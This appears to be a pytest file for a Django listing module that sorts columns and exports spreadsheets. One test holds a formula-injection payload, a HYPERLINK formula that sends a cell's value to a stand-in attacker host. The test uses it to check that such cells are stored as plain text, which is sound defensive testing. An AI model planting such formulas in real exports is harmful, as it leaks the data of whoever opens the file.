"""core/listing.py: one way for every list to sort by its columns and export its view."""

import datetime as dt
from io import BytesIO

import openpyxl
import pytest
from django.http import QueryDict

from duban.core.listing import Col, Listing, write_rows
from duban.ledger.models import KeyTask

SPEC = Listing.define(
    Col("code", "编号", order=("code",), value=lambda t: t.code),
    Col("title", "事项名称", order=("title",), value=lambda t: t.title),
    Col("deadline", "完成时限", order=("deadline",), value=lambda t: t.deadline),
    Col("note", "备注"),  # neither sortable nor exported
)


def bind(query):
    return SPEC.bind(QueryDict(query))


def test_only_declared_columns_sort_and_anything_else_is_ignored():
    assert (bind("sort=-title").key, bind("sort=-title").desc) == ("title", True)
    for query in ["sort=password", "sort=lead_unit__name", "sort=--", "sort=note", ""]:
        listing = bind(query)
        assert (listing.key, listing.desc) == ("", False)


def test_header_link_flips_the_direction_and_marks_the_active_column():
    listing = bind("sort=code")
    assert listing.link("code") == ("编号", "-code", "↑")
    assert bind("sort=-code").link("code") == ("编号", "code", "↓")
    assert listing.link("title") == ("事项名称", "title", "")


@pytest.mark.django_db
def test_a_queryset_sorts_by_the_column_with_empty_values_last(tasks):
    KeyTask.objects.filter(pk=tasks["east"].pk).update(deadline=None)
    KeyTask.objects.filter(pk=tasks["west"].pk).update(deadline=dt.date(2022, 6, 30))
    queryset = KeyTask.objects.all()
    ascending = [t.code for t in bind("sort=deadline").order(queryset, "code")]
    descending = [t.code for t in bind("sort=-deadline").order(queryset, "code")]
    assert ascending == ["ZB-01", "MS-01", "MS-02"]
    assert descending == ["MS-01", "ZB-01", "MS-02"]
    # no sort: the page's own order
    assert [t.code for t in bind("").order(queryset, "-code")] == ["ZB-01", "MS-02", "MS-01"]


def test_python_rows_sort_the_same_way():
    class Row:
        def __init__(self, code, deadline):
            self.code, self.title, self.deadline = code, code, deadline

    rows = [Row("b", dt.date(2022, 3, 1)), Row("a", None), Row("c", dt.date(2022, 1, 1))]
    assert [r.code for r in bind("sort=deadline").sort(rows)] == ["c", "b", "a"]
    assert [r.code for r in bind("sort=-deadline").sort(rows)] == ["b", "c", "a"]
    assert [r.code for r in bind("sort=-code").sort(rows)] == ["c", "b", "a"]


def test_a_cell_that_looks_like_a_formula_is_written_as_text():
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    evil = '=HYPERLINK("http://evil.example/?leak="&D2,"点击查看详情")'
    write_rows(sheet, [[evil, "+1", "-2", "@SUM(A1)", "正常文字", 3]])
    buffer = BytesIO()
    workbook.save(buffer)
    cells = openpyxl.load_workbook(BytesIO(buffer.getvalue())).active[1]
    assert [c.data_type for c in cells] == ["s", "s", "s", "s", "s", "n"]
    assert cells[0].value == evil


@pytest.mark.django_db
def test_export_holds_the_exported_columns_of_the_rows_in_order(tasks):
    rows = bind("sort=-code").order(KeyTask.objects.all())
    response = bind("sort=-code&export=xlsx").export(rows, "重点工作")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = openpyxl.load_workbook(BytesIO(response.content)).active
    values = list(sheet.iter_rows(values_only=True))
    assert values[0] == ("编号", "事项名称", "完成时限")
    assert [row[0] for row in values[1:]] == ["ZB-01", "MS-02", "MS-01"]
